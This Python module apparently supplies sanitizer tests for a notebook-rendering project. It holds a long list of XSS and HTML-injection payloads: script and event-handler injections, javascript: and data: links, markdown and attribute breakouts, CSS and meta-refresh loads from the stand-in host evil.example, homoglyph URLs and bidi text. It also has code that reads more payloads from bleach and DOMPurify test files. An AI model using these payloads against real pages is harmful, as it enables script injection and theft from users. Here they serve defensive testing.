"""Texts that attack a page that shows the texts; files of such texts are read, too.

Each of nbhitl's own texts sets `window.hacked` if the text runs, or asks `evil.example` if the text loads something.
"""

import json
import re
from collections.abc import Iterator
from pathlib import Path

JS = "window.hacked=1"

SCRIPTS = [
    f"<script>{JS}</script>",
    f"</script><script>{JS}</script>",
    f"<scr<script>ipt>{JS}</scr</script>ipt>",
    f'<img src=x onerror="{JS}">',
    f"<svg/onload={JS}>",
    f"<svg><script>{JS}</script></svg>",
    f"<svg><animate onbegin={JS} attributeName=x dur=1s>",
    f"<svg><style><img src=x onerror={JS}></style></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={JS}>",
    f"<details open ontoggle={JS}>x</details>",
    f"<input autofocus onfocus={JS}>",
    f"<video><source onerror={JS}></video>",
    f"<noscript><p title='</noscript><img src=x onerror={JS}>'>",
    f"<template><script>{JS}</script></template>",
    f"<iframe srcdoc='<script>parent.{JS}</script>'></iframe>",
    f"<iframe src=javascript:parent.{JS}></iframe>",
    f"&lt;img src=x onerror={JS}&gt;",
    f"&#60;img src=x onerror={JS}&#62;",
    f"<!--><img src=x onerror={JS}>-->",
    f"<![CDATA[><img src=x onerror={JS}>]]>",
    f"\x00<img\x0csrc=x\x0conerror={JS}>",
]
BREAKOUTS = [
    f'"><img src=x onerror={JS}>',
    f"'><img src=x onerror={JS}>",
    f'" onmouseover="{JS}" autofocus onfocus="{JS}" x="',
    f"' style='position:fixed;inset:0' onmouseover='{JS}",
    f"</textarea></style></title><script>{JS}</script>",
    f"</option></select><img src=x onerror={JS}>",
    f"</pre></div></td></template><img src=x onerror={JS}>",
    f"`-{JS}-`${{{JS}}}{{{{constructor.constructor('{JS}')()}}}}<%= {JS} %>",
]
LINKS = [
    f"javascript:{JS}",
    f"[x](javascript:{JS}) [y](JaVaScRiPt:{JS}) [z](java&#10;script:{JS}) [w](\x01javascript:{JS})",
    f"[x](&#x6A;avascript:{JS}) [y](javascript&colon;{JS}) [z](java\tscript:{JS})",
    f"[x](data:text/html,<script>{JS}</script>) <vbscript:{JS}> [f](file:///etc/passwd) [b](blob:null/1)",
    f"[a]: javascript:{JS}\n\n[a] ![b](javascript:{JS}) [c](<javascript:{JS}>)",
    f"<a href=javascript:{JS}>x</a><a href='data:text/html;base64,PHNjcmlwdD4='>y</a>",
    f'[x](https://ok.example/"onmouseover="{JS}) ![p](https://evil.example/p.png "t" onload={JS})',
    "![p](//evil.example/p.png) <img src=//evil.example/p.png srcset='//evil.example/q.png 2x'>",
    f"$\\href{{javascript:{JS}}}{{x}}$ $$\\require{{html}}\\style{{position:fixed}}{{x}}$$ \\(\\unicode{{x}}\\)",
    f"data:image/svg+xml;utf8,<svg xmlns='http://www.w3.org/2000/svg' onload='{JS}'/>",
    "https://www.bank.example@evil.example/ https://xn--pple-43d.example/ https://\u0430pple.example/",
]
PAGE = [
    "<style>*{display:none!important}body{background:url(//evil.example/b)}</style>",
    "<style>@import '//evil.example/x.css'</style><link rel=stylesheet href=//evil.example/x.css>",
    "<div style='position:fixed;inset:0;background:red;z-index:2147483647'>cover</div>",
    f"<form action=//evil.example><input name=body><button formaction=javascript:{JS}>x</button></form>",
    "<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example/'>",
    f"<object data=javascript:{JS}></object><embed src=//evil.example/x>",
    "<a id=config name=body href=//evil.example></a><img name=getElementById>",  # names that a page may look up
]
MARKDOWN = [
    f"```\n</code></pre><script>{JS}</script>\n```\n\n    <img src=x onerror={JS}>",
    f"| a |\n|---|\n| <img src=x onerror={JS}> |\n\n- [x] <svg/onload={JS}>\n\n> **<script>{JS}</script>**",
    f'```"><img src=x onerror={JS}>\nx\n```\n\n<div\n\n>**x**</div onclick={JS}>',
    "[" * 500 + "](" * 500 + "*" * 500 + "> " * 300,
]
TEXT = [
    "\u202e<tpircs/>1=dekcah.wodniw<tpircs>\u202c admin\u200b\u200d\u2066x\u2069",
    "a\u2028b\u2029c\ufeff\ufff9\u0000\u001b[31m",
    "__proto__",
    "constructor",
]
HARMLESS = "plain **text** $x$"
VECTORS = [*SCRIPTS, *BREAKOUTS, *LINKS, *PAGE, *MARKDOWN, *TEXT]


WHOLE = (0, 1)
"""The share with all texts."""


def texts_of(folder: str, share: tuple[int, int] = WHOLE) -> list[str]:
    """Return a share of the texts of all files in a folder, each once; of nbhitl's own, where no folder is named.

    The share ``(0, 3)`` is the first text and each third text from there, ``(1, 3)`` begins at the second, and so on.
    `.test`: files of bleach, with the attack before a line of `--`. `.mjs`, `.js`: of DOMPurify, the members `payload`.
    Further files: a text a line.
    """
    first, step = share
    part = slice(first, None, step)
    if not folder:
        return VECTORS[part]
    paths = sorted(path for path in Path(folder).rglob("*") if path.is_file())
    found = [text for path in paths for text in _texts(path.suffix, path.read_text(errors="replace"))]
    return list(dict.fromkeys(text for text in found if text.strip()))[part]


def batched(texts: list[str], size: int) -> list[list[str]]:
    """Return the texts, so many at a time."""
    return [texts[start : start + size] for start in range(0, len(texts), size)]


def _texts(suffix: str, content: str) -> Iterator[str]:
    match suffix:
        case ".test":
            yield content.split("\n--\n", maxsplit=1)[0]
        case ".mjs" | ".js":
            strings = re.findall(r'"?payload"?:\s*("(?:[^"\\]|\\.)*")', content)
            yield from (_literal(text) for text in strings)
        case _:
            yield from content.splitlines()


def _literal(text: str) -> str:
    """Read a string of JavaScript, whose other escapes JSON does not know."""
    known = re.sub(r"\\x([0-9a-fA-F]{2})", r"\\u00\1", text)
    return str(json.loads(re.sub(r"\\(?![\"\\/bfnrtu])", "", known), strict=False))
